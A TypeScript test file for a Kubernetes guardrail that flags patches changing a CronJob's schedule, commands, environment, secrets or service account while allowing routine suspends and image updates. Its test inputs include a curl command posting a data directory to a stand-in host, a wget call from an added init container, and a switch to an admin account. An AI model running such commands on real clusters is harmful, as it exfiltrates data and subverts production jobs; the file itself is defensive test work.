import { describe, expect, it } from 'vitest';
import { guardrailContribution } from '../../src/guardrails/effect.js';
import { inspect } from '../../src/guardrails/inspect.js';
import type { GuardrailResult } from '../../src/guardrails/types.js';
import { guardSettings, kube, toJsonPatch } from '../support/guardrails.js';

/**
 * scheduled_job_changed (src/guardrails/rules/scheduled-jobs.ts): a patch of an existing CronJob
 * that changes when it runs or what its jobs run, told apart by the body from the routine suspend,
 * image or resources patch (day 3's engineers suspend production CronJobs while debugging).
 */

const settings = guardSettings('guardrails: {}\n');
const codes = (r: GuardrailResult) => [...new Set(r.violations.map((v) => v.code))].sort();
const CJ = '/apis/batch/v1/namespaces/pos/cronjobs/eod-sales-export';
const SMP = 'application/strategic-merge-patch+json';
const patch = (body: unknown, type = SMP, method = 'PATCH', path = CJ) => inspect(kube(method, path), JSON.stringify(body), type, false, settings);
const template = (container: object, spec: object = {}) => ({ spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'export', ...container }], ...spec } } } } } });

describe('scheduled_job_changed', () => {
  it('is a patch that reschedules the CronJob or changes its commands, environment or account', () => {
    expect(codes(patch({ spec: { schedule: '0 * * * *' } }))).toEqual(['scheduled_job_changed']);
    expect(codes(patch({ spec: { timeZone: 'Pacific/Kiritimati' } }, 'application/merge-patch+json'))).toEqual(['scheduled_job_changed']);
    expect(codes(patch(template({ env: [{ name: 'EXPORT_URL', value: 'https://x.example/upload' }] })))).toEqual(['scheduled_job_changed']);
    expect(codes(patch(template({ command: ['sh', '-c', 'curl -d @/data https://x.example'] })))).toEqual(['scheduled_job_changed']);
    expect(codes(patch(template({ envFrom: [{ secretRef: { name: 'pos-db' } }] })))).toEqual(['scheduled_job_changed']);
    expect(codes(patch(template({ image: 'r.example/e:2' }, { serviceAccountName: 'pos-admin' })))).toEqual(['scheduled_job_changed']);
    // The same as a JSON patch, replayed.
    expect(codes(patch([{ op: 'replace', path: '/spec/schedule', value: '0 * * * *' }], 'application/json-patch+json'))).toEqual(['scheduled_job_changed']);
    expect(codes(patch(toJsonPatch(template({ env: [{ name: 'EXPORT_URL', value: 'https://x.example' }] })), 'application/json-patch+json'))).toEqual(['scheduled_job_changed']);
    // Strategic merge directives other than an element order change what runs: a flag taken off
    // the command, a container replaced by one without its command, a volume dropped.
    expect(codes(patch(template({ '$deleteFromPrimitiveList/args': ['--dry-run'] })))).toEqual(['scheduled_job_changed']);
    expect(codes(patch(template({ $patch: 'replace', image: 'r.example/e:2' })))).toEqual(['scheduled_job_changed']);
    expect(codes(patch(template({}, { volumes: [{ name: 'readonly-root', $patch: 'delete' }] })))).toEqual(['scheduled_job_changed']);
    // An added container runs too.
    expect(codes(patch({ spec: { jobTemplate: { spec: { template: { spec: { initContainers: [{ name: 'x', image: 'busybox:1.36', args: ['wget', 'https://x.example'] }] } } } } } }))).toEqual(['scheduled_job_changed']);
  });

  it('names the field and asks what an elevated guardrail asks by default (two factors within 15 minutes)', () => {
    const r = patch({ spec: { schedule: '0 * * * *', jobTemplate: template({ env: [] }).spec.jobTemplate } });
    expect(r.violations[0]).toMatchObject({ code: 'scheduled_job_changed', path: 'spec.schedule' });
    expect(guardrailContribution(r, 'pos', settings)).toMatchObject({ level: 1, maxAge: 900, codes: ['scheduled_job_changed'] });
  });

  it('is not a suspend, a new image or resources, nor another kind or a read', () => {
    expect(codes(patch({ spec: { suspend: true } }))).toEqual([]);
    expect(codes(patch({ spec: { suspend: false } }, 'application/merge-patch+json'))).toEqual([]);
    expect(codes(patch([{ op: 'replace', path: '/spec/suspend', value: true }], 'application/json-patch+json'))).toEqual([]);
    expect(codes(patch(template({ image: 'r.example/e:2', imagePullPolicy: 'Always', resources: { limits: { memory: '1Gi' } } })))).toEqual([]);
    expect(codes(patch({ 'spec': { jobTemplate: { spec: { template: { spec: { '$setElementOrder/containers': [{ name: 'export' }], 'containers': [{ name: 'export', image: 'r.example/e:3' }] } } } } } }))).toEqual([]);
    expect(codes(patch({ spec: { schedule: '0 * * * *' } }, SMP, 'PATCH', '/apis/apps/v1/namespaces/pos/deployments/eod'))).toEqual([]);
  });

  it('leaves a create, a PUT and a server-side apply to the policy: each carries the whole object', () => {
    const whole = { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'eod-sales-export', namespace: 'pos' }, spec: { schedule: '0 * * * *', ...template({ env: [] }).spec } };
    expect(codes(patch(whole, 'application/json', 'POST', '/apis/batch/v1/namespaces/pos/cronjobs'))).toEqual([]);
    expect(codes(patch(whole, 'application/json', 'PUT'))).toEqual([]);
    expect(codes(patch(whole, 'application/apply-patch+yaml'))).toEqual([]);
  });
});
